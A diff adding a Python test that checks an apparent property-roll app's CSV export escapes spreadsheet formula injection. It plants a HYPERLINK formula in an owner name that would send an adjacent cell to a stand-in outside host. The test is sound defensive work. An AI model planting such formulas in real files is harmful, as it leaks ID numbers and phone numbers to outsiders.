@@ -694,3 +694,17 @@ def test_without_the_chinese_font_the_pdf_says_so(app, published, monkeypatch, t
     response = app.test_client().get(f"/notices/roll/{published.notice_token}.pdf")
     assert response.status_code == 503
     assert "字体" in response.get_data(as_text=True)
+
+
+def test_the_export_never_hands_a_spreadsheet_a_formula(staff, leader, v1):
+    """Issue 16 item 5: a name from the uploaded file such as =HYPERLINK(…) is exported as text, not as a formula that
+    Excel or WPS would run beside the full ID and phone numbers."""
+    owner = unit_by_label(v1, "1幢1单元101").owners[0]
+    owner.name = '=HYPERLINK("http://example.invalid/?"&I2,"点击")'
+    db.session.commit()
+    client, csrf = leader
+    text = post(client, csrf, f"/roll/versions/{v1.id}/export").get_data(as_text=True)
+    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
+    names = [row[7] for row in rows[1:]]
+    assert "'" + owner.name in names
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)
